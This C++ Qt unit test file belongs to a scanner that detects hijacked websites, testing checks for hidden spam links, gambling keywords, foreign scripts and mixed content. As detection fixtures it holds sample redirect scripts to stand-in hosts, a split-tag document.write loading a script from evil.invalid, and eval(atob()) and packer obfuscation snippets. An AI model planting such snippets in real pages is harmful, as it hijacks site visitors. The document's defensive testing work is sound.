// SPDX-License-Identifier: GPL-3.0-or-later
#include "checks/CheckContext.h"
#include "checks/CheckDictionaries.h"
#include "checks/PageSnapshot.h"
#include "checks/hijack/ForeignScriptCheck.h"
#include "checks/hijack/HiddenLinkCheck.h"
#include "checks/hijack/MixedContentCheck.h"
#include "checks/hijack/SpamKeywordCheck.h"

#include <QTest>

#include <memory>

using namespace xj;

namespace {

const QUrl siteUrl(QStringLiteral("http://www.xjdemo.invalid/news/index.html"));

PageSnapshot pageAt(const QUrl &url = siteUrl)
{
    PageSnapshot page;
    page.url = url;
    return page;
}

LinkFact linkFact(const PageSnapshot &page, const QString &tag, const QString &raw, int concealed = 0,
                  const QString &text = {}, int block = -1)
{
    LinkFact l;
    l.tag = tag;
    l.rawUrl = raw;
    l.url = page.url.resolved(QUrl(raw));
    l.text = text;
    l.selector = QStringLiteral("#%1-%2").arg(tag).arg(page.links.size());
    l.concealed = Concealments::fromInt(concealed);
    l.block = block;
    return l;
}

int addBlock(PageSnapshot &page, const QString &text, int concealed = 0)
{
    TextBlock b;
    b.text = text;
    b.tag = QStringLiteral("div");
    b.selector = QStringLiteral("#block-%1").arg(page.blocks.size());
    b.concealed = Concealments::fromInt(concealed);
    return page.appendBlock(b);
}

QStringList texts(const Candidates &candidates)
{
    QStringList out;
    for (const Candidate &c : candidates)
        out << c.text;
    return out;
}

} // namespace

class TestHijackChecks : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();

    void hiddenLink_data();
    void hiddenLink();
    void hiddenLinksInOneContainer();

    void spamKeyword_data();
    void spamKeyword();
    void spamKeywordInOffSiteAnchor();
    void spamKeywordInUnplacedAnchorAndTitle();

    void foreignScript_data();
    void foreignScript();
    void foreignScriptMessage();

    void mixedContent_data();
    void mixedContent();

private:
    Candidates run(const PageCheck &check, const PageSnapshot &page) const
    {
        Candidates out;
        check.run(page, *m_context, out);
        return out;
    }

    std::unique_ptr<CheckDictionaries> m_dictionaries;
    CheckSettings m_settings;
    AllowList m_allowList;
    std::unique_ptr<CheckContext> m_context;
};

void TestHijackChecks::initTestCase()
{
    CheckDictionaries::Lists lists;
    lists.allowedHosts = {QStringLiteral("*.gov.cn")};
    auto keyword = [](const char *word, const char *category) {
        return KeywordMatcher::Keyword{QString::fromUtf8(word), QString::fromUtf8(category), {}};
    };
    lists.spamKeywords = {keyword("彩票平台", "gambling"),  keyword("低息贷款", "fraud"),
                          keyword("澳门赌场", "gambling"),  keyword("赌场", "gambling"),
                          keyword("六合彩", "gambling"),    keyword("baccarat", "gambling"),
                          keyword("线上娱乐城", "gambling")};
    m_dictionaries = std::make_unique<CheckDictionaries>(lists);
    m_context = std::make_unique<CheckContext>(*m_dictionaries, m_settings, m_allowList);
}

void TestHijackChecks::hiddenLink_data()
{
    QTest::addColumn<QString>("tag");
    QTest::addColumn<QString>("href");
    QTest::addColumn<int>("concealed");
    QTest::addColumn<QString>("reason"); ///< in the message; empty: not flagged
    QTest::addColumn<double>("confidence");

    const QString foreign = QStringLiteral("http://www.qh-yule.invalid/");
    const QString a = QStringLiteral("a");
    QTest::newRow("display none") << a << foreign << int(Concealment::DisplayNone) << "display:none" << 0.95;
    QTest::newRow("off screen") << a << foreign << int(Concealment::OffScreen) << "off screen" << 0.95;
    QTest::newRow("zero size") << a << foreign << int(Concealment::ZeroSize) << "zero size" << 0.95;
    QTest::newRow("font size 0") << a << foreign << int(Concealment::FontSizeZero) << "font size 0" << 0.95;
    QTest::newRow("same colour") << a << foreign << int(Concealment::SameColour)
                                 << "same colour as background" << 0.95;
    QTest::newRow("visibility hidden")
        << a << foreign << int(Concealment::VisibilityHidden) << "visibility:hidden" << 0.8;
    QTest::newRow("tiny box") << a << foreign << int(Concealment::TinyOverflowBox) << "clipped in a tiny box"
                              << 0.8;
    QTest::newRow("transparent") << a << foreign << int(Concealment::Transparent) << "transparent" << 0.8;
    QTest::newRow("tiny box and off screen")
        << a << foreign << int(Concealment::TinyOverflowBox | Concealment::OffScreen) << "off screen" << 0.95;
    QTest::newRow("image map area") << QStringLiteral("area") << foreign << int(Concealment::DisplayNone)
                                    << "display:none" << 0.95;

    const int hidden = int(Concealment::DisplayNone);
    QTest::newRow("hidden on-site link")
        << a << QStringLiteral("http://www.xjdemo.invalid/a.html") << hidden << QString() << 0.0;
    QTest::newRow("hidden on-site sub-domain")
        << a << QStringLiteral("https://zwgk.xjdemo.invalid/") << hidden << QString() << 0.0;
    QTest::newRow("hidden relative link")
        << a << QStringLiteral("../about.html") << hidden << QString() << 0.0;
    QTest::newRow("hidden gov.cn link")
        << a << QStringLiteral("http://www.zj.gov.cn/") << hidden << QString() << 0.0;
    QTest::newRow("hidden mailto") << a << QStringLiteral("mailto:x@qh-yule.invalid") << hidden << QString()
                                   << 0.0;
    QTest::newRow("visible off-site link") << a << foreign << 0 << QString() << 0.0;
    QTest::newRow("hidden off-site image is not a link")
        << QStringLiteral("img") << foreign << hidden << QString() << 0.0;
}

void TestHijackChecks::hiddenLink()
{
    QFETCH(QString, tag);
    QFETCH(QString, href);
    QFETCH(int, concealed);
    QFETCH(QString, reason);
    QFETCH(double, confidence);

    PageSnapshot page = pageAt();
    page.links.append(linkFact(page, tag, href, concealed, QStringLiteral("线上娱乐城")));
    const Candidates out = run(HiddenLinkCheck(), page);
    if (reason.isEmpty()) {
        QVERIFY2(out.isEmpty(), qPrintable(texts(out).join(u',')));
        return;
    }
    QCOMPARE(out.size(), 1);
    const Candidate &c = out.first();
    QCOMPARE(c.checkId, QStringLiteral("hijack.hidden_link"));
    QCOMPARE(c.text, href);
    QCOMPARE(c.selector, page.links.first().selector);
    QCOMPARE(c.confidence, confidence);
    QVERIFY2(c.message.contains(reason), qPrintable(c.message));
    QVERIFY2(c.message.contains(QStringLiteral("线上娱乐城")), qPrintable(c.message));
    QVERIFY2(c.message.contains(QStringLiteral("www.qh-yule.invalid")), qPrintable(c.message));
}

void TestHijackChecks::hiddenLinksInOneContainer()
{
    PageSnapshot page = pageAt();
    const int box =
        addBlock(page, QStringLiteral("线上娱乐城 澳门赌场 政务公开"), int(Concealment::OffScreen));
    const int off = int(Concealment::OffScreen);
    page.links.append(linkFact(page, QStringLiteral("a"), QStringLiteral("http://a.invalid/"), off,
                               QStringLiteral("线上娱乐城"), box));
    page.links.append(linkFact(page, QStringLiteral("a"), QStringLiteral("http://b.invalid/x"), off,
                               QStringLiteral("澳门赌场"), box));
    page.links.append(
        linkFact(page, QStringLiteral("a"), QStringLiteral("/zwgk/"), off, QStringLiteral("政务公开"), box));
    const Candidates out = run(HiddenLinkCheck(), page);
    QCOMPARE(texts(out),
             (QStringList{QStringLiteral("http://a.invalid/"), QStringLiteral("http://b.invalid/x")}));
}

void TestHijackChecks::spamKeyword_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("concealed");
    QTest::addColumn<QStringList>("expected");
    QTest::addColumn<QList<int>>("offsets");
    QTest::addColumn<double>("confidence");
    QTest::addColumn<QString>("where");

    const int hidden = int(Concealment::DisplayNone);
    QTest::newRow("visible block") << QStringLiteral("欢迎访问彩票平台注册") << 0
                                   << QStringList{QStringLiteral("彩票平台")} << QList<int>{4} << 0.75
                                   << QStringLiteral("in the page text");
    QTest::newRow("hidden block") << QStringLiteral("低息贷款，当天到账") << hidden
                                  << QStringList{QStringLiteral("低息贷款")} << QList<int>{0} << 0.9
                                  << QStringLiteral("in hidden text (display:none)");
    QTest::newRow("longest word only")
        << QStringLiteral("新开澳门赌场") << 0 << QStringList{QStringLiteral("澳门赌场")} << QList<int>{2}
        << 0.75 << QStringLiteral("Gambling word");
    QTest::newRow("full-width and case as on the page")
        << QStringLiteral("ＢＡＣＣＡＲＡＴ在线") << 0 << QStringList{QStringLiteral("ＢＡＣＣＡＲＡＴ")}
        << QList<int>{0} << 0.75 << QStringLiteral("Gambling word");
    QTest::newRow("at most five per word")
        << QStringLiteral("六合彩六合彩六合彩六合彩六合彩六合彩六合彩") << 0
        << QStringList(5, QStringLiteral("六合彩")) << QList<int>{0, 3, 6, 9, 12} << 0.75
        << QStringLiteral("in the page text");
    QTest::newRow("福利彩票 is legitimate") << QStringLiteral("福利彩票公益金使用情况公告") << 0
                                            << QStringList() << QList<int>() << 0.0 << QString();
    QTest::newRow("助学贷款 is legitimate") << QStringLiteral("生源地信用助学贷款申请指南") << hidden
                                            << QStringList() << QList<int>() << 0.0 << QString();
}

void TestHijackChecks::spamKeyword()
{
    QFETCH(QString, text);
    QFETCH(int, concealed);
    QFETCH(QStringList, expected);
    QFETCH(QList<int>, offsets);
    QFETCH(double, confidence);
    QFETCH(QString, where);

    PageSnapshot page = pageAt();
    addBlock(page, QStringLiteral("县政府常务会议研究安全生产等事项"));
    const int b = addBlock(page, text, concealed);
    const Candidates out = run(SpamKeywordCheck(), page);
    QCOMPARE(texts(out), expected);
    for (int i = 0; i < out.size(); ++i) {
        const Candidate &c = out.at(i);
        QCOMPARE(c.checkId, QStringLiteral("hijack.spam_keyword"));
        QCOMPARE(c.block, b);
        QCOMPARE(c.offset, qsizetype(offsets.at(i)));
        QCOMPARE(c.length, c.text.size());
        QCOMPARE(page.blocks.at(b).text.mid(c.offset, c.length), c.text);
        QCOMPARE(c.selector, page.blocks.at(b).selector);
        QCOMPARE(c.confidence, confidence);
        QVERIFY2(c.message.contains(where), qPrintable(c.message));
    }
}

void TestHijackChecks::spamKeywordInOffSiteAnchor()
{
    PageSnapshot page = pageAt();
    const int b = addBlock(page, QStringLiteral("友情链接：线上娱乐城 县政府门户"));
    page.links.append(linkFact(page, QStringLiteral("a"), QStringLiteral("http://www.qh-yule.invalid/"), 0,
                               QStringLiteral("线上娱乐城"), b));
    const Candidates out = run(SpamKeywordCheck(), page);
    QCOMPARE(out.size(), 1); // once, although it is both block text and anchor text
    QCOMPARE(out.first().text, QStringLiteral("线上娱乐城"));
    QCOMPARE(out.first().block, b);
    QCOMPARE(out.first().offset, qsizetype(5));
    QCOMPARE(out.first().selector, page.links.first().selector);
    QCOMPARE(out.first().confidence, 0.9);
    QVERIFY2(out.first().message.contains(QStringLiteral("www.qh-yule.invalid")),
             qPrintable(out.first().message));

    // The same words linking to the site itself are plain page text.
    page.links.first().url = QUrl(QStringLiteral("http://www.xjdemo.invalid/yule.html"));
    const Candidates own = run(SpamKeywordCheck(), page);
    QCOMPARE(own.size(), 1);
    QCOMPARE(own.first().confidence, 0.75);
    QCOMPARE(own.first().selector, page.blocks.at(b).selector);
}

void TestHijackChecks::spamKeywordInUnplacedAnchorAndTitle()
{
    PageSnapshot page = pageAt();
    page.title = QStringLiteral("澳门赌场_县人民政府");
    page.links.append(linkFact(page, QStringLiteral("a"), QStringLiteral("http://x.invalid/"),
                               int(Concealment::DisplayNone), QStringLiteral("彩票平台")));
    const Candidates out = run(SpamKeywordCheck(), page);
    QCOMPARE(texts(out), (QStringList{QStringLiteral("彩票平台"), QStringLiteral("澳门赌场")}));
    QVERIFY(!out.at(0).hasTextPosition());
    QCOMPARE(out.at(0).selector, page.links.first().selector);
    QCOMPARE(out.at(0).confidence, 0.9);
    QCOMPARE(out.at(1).selector, QStringLiteral("title"));
}

void TestHijackChecks::foreignScript_data()
{
    QTest::addColumn<QString>("tag"); ///< of the one LinkFact; empty: none
    QTest::addColumn<QString>("url");
    QTest::addColumn<int>("concealed");
    QTest::addColumn<QString>("refresh"); ///< content of <meta http-equiv=refresh>
    QTest::addColumn<QString>("script");  ///< one inline script
    QTest::addColumn<QStringList>("expected");
    QTest::addColumn<double>("confidence");

    const QString none;
    const QString evil = QStringLiteral("http://www.x.invalid/a.js");
    const QString yule = QStringLiteral("http://www.qh-yule.invalid/");
    auto row = [&](const char *name, const QString &tag, const QString &url, int concealed,
                   const QString &refresh, const QString &script, const QStringList &expected,
                   double confidence) {
        QTest::newRow(name) << tag << url << concealed << refresh << script << expected << confidence;
    };
    const QString script = QStringLiteral("script");
    const QString iframe = QStringLiteral("iframe");
    row("foreign script", script, evil, 0, none, none, {evil}, 0.85);
    row("protocol-relative foreign script", script, QStringLiteral("//cdn.evil.invalid/x.js"), 0, none, none,
        {QStringLiteral("//cdn.evil.invalid/x.js")}, 0.85);
    row("own script", script, QStringLiteral("/js/jquery.min.js"), 0, none, none, {}, 0);
    row("own sub-domain script", script, QStringLiteral("http://static.xjdemo.invalid/a.js"), 0, none, none,
        {}, 0);
    row("gov.cn script", script, QStringLiteral("https://www.zj.gov.cn/js/a.js"), 0, none, none, {}, 0);
    row("foreign frame", iframe, yule, 0, none, none, {yule}, 0.8);
    row("hidden foreign frame", iframe, yule, int(Concealment::ZeroSize), none, none, {yule}, 0.95);
    row("foreign embed", QStringLiteral("embed"), QStringLiteral("http://x.invalid/a.swf"), 0, none, none,
        {QStringLiteral("http://x.invalid/a.swf")}, 0.8);
    row("foreign anchor is not a script", QStringLiteral("a"), yule, 0, none, none, {}, 0);
    row("meta refresh", none, none, 0, QStringLiteral("0;url=http://www.qh-yule.invalid/"), none, {yule},
        0.9);
    row("meta refresh quoted", none, none, 0, QStringLiteral("5; URL='http://x.invalid/p'"), none,
        {QStringLiteral("http://x.invalid/p")}, 0.9);
    row("meta refresh to own page", none, none, 0, QStringLiteral("30;url=/index.html"), none, {}, 0);
    row("meta refresh reload", none, none, 0, QStringLiteral("300"), none, {}, 0);
    row("meta fact and meta tag once", QStringLiteral("meta"), yule, 0, QStringLiteral("0;url=") + yule, none,
        {yule}, 0.9);
    row("location.href", none, none, 0, none,
        QStringLiteral("window.location.href=\"http://www.qh-yule.invalid/\";"), {yule}, 0.9);
    row("top.location", none, none, 0, none,
        QStringLiteral("if (top != self) { top.location = 'http://x.invalid/'; }"),
        {QStringLiteral("http://x.invalid/")}, 0.9);
    row("location.replace", none, none, 0, none,
        QStringLiteral("location.replace(\"http://www.qh-yule.invalid/\")"), {yule}, 0.9);
    row("window.open", none, none, 0, none, QStringLiteral("window.open('http://ad.invalid/pop')"),
        {QStringLiteral("http://ad.invalid/pop")}, 0.7);
    row("comparison is not a redirect", none, none, 0, none,
        QStringLiteral("if (location.href == \"http://x.invalid/\") {}"), {}, 0);
    row("redirect to own page", none, none, 0, none, QStringLiteral("location.href = \"/m/index.html\";"), {},
        0);
    row("redirect to gov.cn", none, none, 0, none, QStringLiteral("location.href='https://www.gov.cn/';"), {},
        0);
    row("js fact and script once", QStringLiteral("js"), yule, 0, none,
        QStringLiteral("document.location = \"http://www.qh-yule.invalid/\""), {yule}, 0.9);
    row("document.write of a split script tag", none, none, 0, none,
        QStringLiteral(
            "document.write('<scr'+'ipt src=\"http://evil.invalid/m.js\"></scr'+'ipt>');\nvar a=1;"),
        {QStringLiteral("document.write('<scr'+'ipt src=\"http://evil.invalid/m.js\"></scr'+'ipt>');")}, 0.6);
    row("document.write of own script", none, none, 0, none,
        QStringLiteral("document.write('<script src=\"/js/a.js\"></script>');"), {}, 0);
    row("eval atob", none, none, 0, none, QStringLiteral("var k=1;eval(atob(\"ZG9jdW1lbnQud3JpdGUoKQ==\"));"),
        {QStringLiteral("eval(atob(\"ZG9jdW1lbnQud3JpdGUoKQ==\"));")}, 0.6);
    row("eval packer", none, none, 0, none,
        QStringLiteral(
            "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))"),
        {QStringLiteral("eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('")},
        0.6);
    const QString escapes = QStringLiteral("\\x68").repeated(25);
    row("escape run", none, none, 0, none, QStringLiteral("var s=\"") + escapes + QStringLiteral("\";"),
        {escapes.left(80)}, 0.6);
    row("a few escapes", none, none, 0, none, QStringLiteral("var s=\"\\x3c\\x2f\";"), {}, 0);
    row("ordinary analytics", none, none, 0, none,
        QStringLiteral(
            "var _hmt = _hmt || []; (function() { var hm = document.createElement(\"script\"); })();"),
        {}, 0);
}

void TestHijackChecks::foreignScript()
{
    QFETCH(QString, tag);
    QFETCH(QString, url);
    QFETCH(int, concealed);
    QFETCH(QString, refresh);
    QFETCH(QString, script);
    QFETCH(QStringList, expected);
    QFETCH(double, confidence);

    PageSnapshot page = pageAt();
    if (!tag.isEmpty())
        page.links.append(linkFact(page, tag, url, concealed));
    if (!refresh.isEmpty())
        page.metas.insert(QStringLiteral("http-equiv:refresh"), refresh);
    if (!script.isEmpty())
        page.inlineScripts.append(script);
    const Candidates out = run(ForeignScriptCheck(), page);
    QCOMPARE(texts(out), expected);
    for (const Candidate &c : out) {
        QCOMPARE(c.checkId, QStringLiteral("hijack.foreign_script"));
        QCOMPARE(c.confidence, confidence);
        QVERIFY(c.text.size() <= ForeignScriptCheck::excerptLength);
    }
}

void TestHijackChecks::foreignScriptMessage()
{
    PageSnapshot page = pageAt();
    page.links.append(linkFact(page, QStringLiteral("script"), QStringLiteral("http://www.x.invalid/a.js")));
    const Candidates out = run(ForeignScriptCheck(), page);
    QCOMPARE(out.size(), 1);
    QCOMPARE(
        out.first().message,
        QStringLiteral("A script from www.x.invalid, which is not on this site's allow-list, is loaded."));
    QCOMPARE(out.first().selector, page.links.first().selector);
}

void TestHijackChecks::mixedContent_data()
{
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("tag");
    QTest::addColumn<QString>("url");
    QTest::addColumn<double>("confidence"); ///< 0: not reported

    const QString https = QStringLiteral("https://www.xjdemo.invalid/index.html");
    auto row = [&](const char *name, const QString &page, const char *tag, const char *url,
                   double confidence) {
        QTest::newRow(name) << page << QString::fromLatin1(tag) << QString::fromLatin1(url) << confidence;
    };
    row("http image", https, "img", "http://www.xjdemo.invalid/logo.png", 0.7);
    row("http script", https, "script", "http://cdn.x.invalid/jquery.js", 0.9);
    row("http stylesheet", https, "link", "http://www.xjdemo.invalid/css/main.css", 0.9);
    row("http icon", https, "link", "http://www.xjdemo.invalid/favicon.ico", 0.7);
    row("http canonical", https, "link", "http://www.xjdemo.invalid/index.html", 0);
    row("http frame", https, "iframe", "http://map.x.invalid/", 0.9);
    row("http object", https, "object", "http://x.invalid/a.swf", 0.9);
    row("http form action", https, "form", "http://search.xjdemo.invalid/s", 0.9);
    row("http video", https, "video", "http://v.xjdemo.invalid/a.mp4", 0.7);
    row("http source", https, "source", "http://v.xjdemo.invalid/a.mp3", 0.7);
    row("http anchor is not mixed", https, "a", "http://www.zj.gov.cn/", 0);
    row("https image", https, "img", "https://www.xjdemo.invalid/logo.png", 0);
    row("protocol-relative image", https, "img", "//www.xjdemo.invalid/logo.png", 0);
    row("relative image", https, "img", "images/logo.png", 0);
    row("http page", QStringLiteral("http://www.xjdemo.invalid/"), "img",
        "http://www.xjdemo.invalid/logo.png", 0);
}

void TestHijackChecks::mixedContent()
{
    QFETCH(QString, page);
    QFETCH(QString, tag);
    QFETCH(QString, url);
    QFETCH(double, confidence);

    PageSnapshot snapshot = pageAt(QUrl(page));
    snapshot.links.append(linkFact(snapshot, tag, url));
    const Candidates out = run(MixedContentCheck(), snapshot);
    if (confidence == 0) {
        QVERIFY2(out.isEmpty(), qPrintable(texts(out).join(u',')));
        return;
    }
    QCOMPARE(out.size(), 1);
    QCOMPARE(out.first().checkId, QStringLiteral("security.mixed_content"));
    QCOMPARE(out.first().text, url);
    QCOMPARE(out.first().selector, snapshot.links.first().selector);
    QCOMPARE(out.first().confidence, confidence);
}

QTEST_GUILESS_MAIN(TestHijackChecks)
#include "tst_hijackchecks.moc"
